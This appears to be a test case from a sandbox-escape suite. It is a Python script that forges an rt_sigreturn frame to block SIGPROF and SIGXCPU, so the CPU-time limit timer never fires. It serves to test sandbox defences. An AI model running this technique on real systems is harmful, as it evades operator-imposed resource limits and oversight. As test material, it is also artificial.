# 713 signal-return-blocks-timer
# tries: rt_sigreturn with a frame of ours blocks SIGPROF and SIGXCPU: the timer of the processor limit is deaf
# escaped: more processor time than was given
# walls: language=- os=must host=-
# mode: raw
import ctypes
libc = ctypes.CDLL(None)
base = ctypes.cast(libc.getpid, ctypes.c_void_p).value & ~0xFFF
spin = next(base + o + i for o in range(0, 0x100000, 0x1000) if (i := ctypes.string_at(base + o, 0x1000).find(b'\xeb\xfe')) >= 0)
words = [0] * 60
stack = ctypes.create_string_buffer(1 << 16)
def put(offset, value):
    words[offset // 8 - 1] = value
put(40 + 8 * 15, ctypes.addressof(stack) + 0x8000)
put(40 + 8 * 16, spin)
put(40 + 8 * 17, 0x202)
put(40 + 8 * 18, 0x33 | 0x2B << 48)
put(40 + 256, 1 << 26 | 1 << 23)
call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 66)(('syscall', libc))
call(15, 0, 0, 0, 0, 0, *words)
